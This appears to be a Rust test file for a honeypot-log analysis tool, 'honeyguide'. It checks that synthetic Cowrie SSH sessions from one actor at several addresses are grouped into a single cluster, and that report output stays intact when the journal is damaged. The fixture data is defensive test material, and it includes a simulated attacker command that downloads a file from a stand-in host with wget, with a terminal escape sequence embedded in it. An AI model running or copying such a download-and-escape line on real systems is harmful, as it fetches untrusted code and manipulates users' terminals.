//! `honeyguide clusters` on logs that were made for it: one actor at many addresses, and others who are not that actor.
mod served;

use honeyguide::cli::context::Exit;
use serde_json::{Value, json};
use served::Home;

const HASSH: &str = "92674389fa1e47a27ddd8d9b63ecd42b";

/// A session: its number (of which the id is made), sensor, day of March, address, HASSH, what it tried, what it typed.
struct Told<'t>(u32, &'t str, u32, &'t str, Option<&'t str>, &'t [(&'t str, &'t str)], &'t [&'t str]);

fn lines(Told(number, sensor, day, address, hassh, tried, typed): &Told<'_>) -> String {
    let mut second = 0;
    let mut line = |event: &str, more: Value| {
        second += 1;
        let mut line = json!({
            "eventid": format!("cowrie.{event}"), "session": format!("{number:012x}"), "sensor": sensor, "src_ip": address,
            "timestamp": format!("2026-03-{day:02}T10:{:02}:{second:02}.000000Z", number % 60),
        });
        line.as_object_mut().expect("an object").extend(more.as_object().expect("an object").clone());
        format!("{line}\n")
    };
    let mut lines = line("session.connect", json!({}));
    lines += &hassh.map(|hassh| line("client.kex", json!({ "hassh": hassh }))).unwrap_or_default();
    tried.iter().for_each(|(username, password)| lines += &line("login.failed", json!({ "username": username, "password": password })));
    typed.iter().for_each(|command| lines += &line("command.input", json!({ "input": command })));
    lines + &line("session.closed", json!({}))
}

/// Three sessions of one actor, at two sensors, from two addresses, with the same credentials in another order; and some others.
fn home() -> Home {
    let home = Home::new();
    let (one, two) = ([("root", "1234"), ("root", "root")], [("root", "root"), ("root", "1234")]);
    let twice = [("root", "root"), ("root", "1234"), ("root", "1234")];
    let typed = ["uname -a", "cd /tmp; \u{1b}[2Jwget http://192.0.2.9/x"];
    let told = [
        Told(1, "ssh-1", 21, "198.51.100.1", Some(HASSH), &one, &typed),
        Told(2, "ssh-2", 22, "198.51.100.2", Some(HASSH), &two, &typed),
        Told(3, "ssh-2", 23, "::ffff:198.51.100.1", Some(HASSH), &one, &typed),
        Told(4, "ssh-1", 21, "203.0.113.4", Some(HASSH), &twice, &typed),
        Told(5, "ssh-1", 22, "203.0.113.5", None, &one, &typed),
        Told(6, "ssh-1", 22, "203.0.113.6", Some(HASSH), &one, &["uname -a"]),
        // Neither tried nor typed anything.
        Told(7, "ssh-1", 22, "203.0.113.7", Some(HASSH), &[], &[]),
        Told(8, "ssh-1", 22, "203.0.113.8", Some(HASSH), &[], &[]),
    ];
    let log: String = told.iter().map(lines).collect();
    let file = home.write("logs/cowrie.json", log.as_bytes());
    home.json(Exit::Done, &["load", file.to_str().expect("UTF-8")]);
    home
}

fn clusters(home: &Home, words: &[&str]) -> Value {
    home.json(Exit::Done, &[&["clusters"][..], words].concat())
}

#[test]
fn one_actor_at_many_addresses_is_one_cluster_with_and_without_a_daemon() {
    let home = home();
    let mut daemon = None;
    for with_daemon in [false, true] {
        daemon = daemon.or_else(|| with_daemon.then(|| served::Daemon::start(&home)));
        let found = clusters(&home, &[]);
        assert_eq!(found["distinct"], 1, "{found}");
        let row = &found["rows"][0];
        let figures = ["sessions", "addresses", "sensors", "commands", "credentials"].map(|name| row[name].as_u64().expect("a number"));
        assert_eq!(figures, [3, 2, 2, 2, 2], "{row}");
        assert_eq!((row["hassh"].as_str(), row["session"].as_str()), (Some(HASSH), Some("000000000001")));
        assert_eq!(
            (row["first"].as_str(), row["last"].as_str()),
            (Some("2026-03-21T10:01:01.000000Z"), Some("2026-03-23T10:03:07.000000Z"))
        );
        assert_eq!(row["lines"][0], "uname -a");

        // Nobody else types the same and tries as often, but some do one of it.
        assert_eq!(clusters(&home, &["--min-sessions", "1"])["distinct"], 4);
        assert_eq!(clusters(&home, &["--by", "commands"])["rows"][0]["sessions"], 5);
        assert_eq!(clusters(&home, &["--by", "commands,credentials"])["rows"][0]["sessions"], 4);
        assert_eq!(clusters(&home, &["--by", "hassh"])["rows"][0]["sessions"], 5);
        assert_eq!(clusters(&home, &["--sensor", "ssh-2"])["rows"][0]["sessions"], 2);
        assert_eq!(clusters(&home, &["daily", "2026-03-22"])["distinct"], 0);
        assert_eq!(clusters(&home, &["--since", "2026-03-22", "--until", "2026-03-23"])["rows"][0]["id"], row["id"], "the same id");
        assert_eq!(clusters(&home, &["range", "2026-03-21..2026-03-22"])["rows"][0]["sessions"], 2);
        assert_eq!(clusters(&home, &["--limit", "0"])["rows"], json!([]));

        let id = row["id"].as_str().expect("an id");
        let one = clusters(&home, &["show", id]);
        assert_eq!((&one["by"], &one["sessions"]), (&json!("hassh,commands,credentials"), &json!(3)));
        let addresses: Vec<_> =
            one["from_addresses"].as_array().expect("a list").iter().map(|row| (&row["value"], &row["sessions"])).collect();
        assert_eq!(addresses, [(&json!("198.51.100.1"), &json!(2)), (&json!("198.51.100.2"), &json!(1))]);
        assert_eq!(one["days"], json!([["2026-03-21", 1], ["2026-03-22", 1], ["2026-03-23", 1]]));
        assert_eq!(one["newest"][0]["session"], "000000000003");
        assert_eq!(clusters(&home, &["show", id, "--sensor", "ssh-1"])["sessions"], 1);

        for (words, problem) in [
            (&["--by", "hassh,colour"][..], "`colour` is nothing to group by"),
            (&["--limit", "100000"], "at most 1000 clusters"),
            (&["--since", "2026-02-31"], "2026-02-31"),
            (&["--since", "2026-03-23", "--until", "2026-03-22"], "the other way round"),
            (&["daily", "2026-02-31"], "there is no 2026-02-31"),
            (&["show", "root"], "`root` is no id of a cluster"),
            (&["show", "7000000000000000"], "no session belongs to the cluster"),
        ] {
            let refused = home.fails(&[&["clusters"][..], words].concat()).to_string();
            assert!(refused.contains(problem), "{words:?}: {refused}");
        }
    }
}

#[test]
fn what_attackers_typed_does_nothing_in_a_terminal() {
    let home = home();
    let text = home.expect(Exit::Done, &["clusters"]);
    assert!(!text.contains('\u{1b}') && text.contains("3 sessions from 2 addresses at 2 sensors"), "{text}");
    assert!(text.contains(HASSH) && text.contains("uname -a; cd /tmp; ") && text.contains("such as session 000000000001"), "{text}");
    let id = text.split(' ').next().expect("an id").to_owned();
    let text = home.expect(Exit::Done, &["clusters", "show", &id]);
    assert!(!text.contains('\u{1b}') && text.contains("honeyguide session 000000000003"), "{text}");
    assert!(home.expect(Exit::Done, &["clusters", "daily", "2026-03-20"]).contains("no cluster"));
}

#[test]
fn a_report_tells_the_rest_when_an_example_cannot_be_read() {
    let home = home();
    let report = |words: &[&str]| home.expect(Exit::Done, &[&["report", "range", "2026-03-21..2026-03-23"][..], words].concat());
    let whole: Value = serde_json::from_str(&report(&["--format", "json"])).expect("JSON");
    assert_eq!((&whole[0]["clusters"]["rows"][0]["sessions"], &whole[0]["clusters"]["rows"][0]["unreadable"]), (&json!(3), &Value::Null));
    for form in ["text", "markdown", "html", "csv"] {
        let text = report(&["--format", form]);
        let id = whole[0]["clusters"]["rows"][0]["id"].as_str().expect("an id");
        assert!(text.contains(id) && !text.contains("not readable"), "{form}: {text}");
    }
    // The bytes behind the lines of the only block; its frame is no longer one.
    let journal = home.data().join("journal/00000001.zst");
    let daemon = served::Daemon::start(&home);
    let mut bytes = std::fs::read(&journal).expect("a segment");
    let middle = bytes.len() / 2;
    bytes[middle..].iter_mut().for_each(|byte| *byte ^= 0xff);
    std::fs::write(&journal, bytes).expect("damaged");
    let damaged: Value = serde_json::from_str(&report(&["--format", "json"])).expect("JSON");
    assert_eq!(damaged[0]["totals"], whole[0]["totals"]);
    assert_eq!(
        (&damaged[0]["clusters"]["rows"][0]["sessions"], &damaged[0]["clusters"]["rows"][0]["unreadable"]),
        (&json!(3), &json!(true))
    );
    assert_eq!(damaged[0]["sequences"]["rows"][0]["unreadable"], true);
    for form in ["text", "markdown", "html", "csv"] {
        let text = report(&["--format", form]);
        assert!(text.contains("(not readable)"), "{form}: {text}");
    }
    drop(daemon);
}
